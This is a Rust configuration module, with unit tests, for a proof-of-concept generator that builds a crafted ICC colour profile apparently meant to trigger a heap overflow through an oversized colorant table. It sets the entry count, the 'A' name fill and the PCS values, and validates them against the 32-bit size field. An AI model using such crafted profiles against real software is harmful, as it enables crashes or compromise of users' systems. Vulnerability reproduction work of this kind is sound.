//! Generator configuration

use std::path::PathBuf;

use crate::icc::{COLORANT_ENTRY_SIZE, COLORANT_TABLE_HEADER_SIZE, HEADER_SIZE, TAG_ENTRY_SIZE};
use crate::{Error, Result};

/// File name written when no output path is given
pub const DEFAULT_OUTPUT: &str = "poc-heap-overflow-colorant.icc";

/// Lab L=50, a=0, b=0 in the 16-bit legacy PCS encoding
pub const DEFAULT_PCS: [u16; 3] = [0x6400, 0x8000, 0x8000];

/// Largest entry count whose profile still fits the 32-bit size field
pub const MAX_ENTRY_COUNT: u32 = ((u32::MAX as usize
    - HEADER_SIZE
    - 4
    - TAG_ENTRY_SIZE
    - COLORANT_TABLE_HEADER_SIZE)
    / COLORANT_ENTRY_SIZE) as u32;

/// Parameters of the crafted profile.
///
/// The defaults reproduce the reference artifact byte for byte.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PocConfig {
    /// Where the profile is written
    pub output: PathBuf,
    /// Number of colorant entries in the table
    pub entry_count: u32,
    /// Byte repeated across each 32-byte colorant name
    pub name_fill: u8,
    /// PCS coordinates stored with each colorant
    pub pcs: [u16; 3],
}

impl Default for PocConfig {
    fn default() -> Self {
        Self {
            output: PathBuf::from(DEFAULT_OUTPUT),
            entry_count: 1,
            name_fill: b'A',
            pcs: DEFAULT_PCS,
        }
    }
}

impl PocConfig {
    /// Reject settings that would put a NUL into the name field or
    /// overflow the header's size field
    pub fn validate(&self) -> Result<()> {
        if self.name_fill == 0 {
            return Err(Error::InvalidConfig(
                "name fill byte must be non-zero, a NUL terminates the colorant name".into(),
            ));
        }
        if self.entry_count > MAX_ENTRY_COUNT {
            return Err(Error::InvalidConfig(format!(
                "{} colorant entries exceed the limit of {MAX_ENTRY_COUNT}, \
                 the profile size must fit in 32 bits",
                self.entry_count
            )));
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_defaults() {
        let config = PocConfig::default();
        assert_eq!(config.output, PathBuf::from("poc-heap-overflow-colorant.icc"));
        assert_eq!(config.entry_count, 1);
        assert_eq!(config.name_fill, 0x41);
        assert!(config.validate().is_ok());
    }

    #[test]
    fn test_zero_fill_rejected() {
        let config = PocConfig {
            name_fill: 0,
            ..Default::default()
        };
        assert!(matches!(config.validate(), Err(Error::InvalidConfig(_))));
    }

    fn colorant_tag_len(entries: u32) -> u64 {
        (COLORANT_TABLE_HEADER_SIZE + entries as usize * COLORANT_ENTRY_SIZE) as u64
    }

    #[test]
    fn test_entry_count_limit() {
        assert_eq!(MAX_ENTRY_COUNT, 113_025_451);

        let at_limit = PocConfig {
            entry_count: MAX_ENTRY_COUNT,
            ..Default::default()
        };
        assert!(at_limit.validate().is_ok());

        let over = PocConfig {
            entry_count: MAX_ENTRY_COUNT + 1,
            ..Default::default()
        };
        assert!(matches!(over.validate(), Err(Error::InvalidConfig(_))));

        let over = PocConfig {
            entry_count: u32::MAX,
            ..Default::default()
        };
        assert!(matches!(over.validate(), Err(Error::InvalidConfig(_))));
    }

    #[test]
    fn test_limit_matches_layout() {
        use crate::icc::{TagDirectory, TagSignature};

        let fits = [(TagSignature::COLORANT_TABLE, colorant_tag_len(MAX_ENTRY_COUNT))];
        let dir = TagDirectory::from_sizes(fits.into_iter()).unwrap();
        assert!(dir.placements[0].end() <= u32::MAX as u64);

        let too_big = [(TagSignature::COLORANT_TABLE, colorant_tag_len(MAX_ENTRY_COUNT + 1))];
        assert!(TagDirectory::from_sizes(too_big.into_iter()).is_err());
    }
}
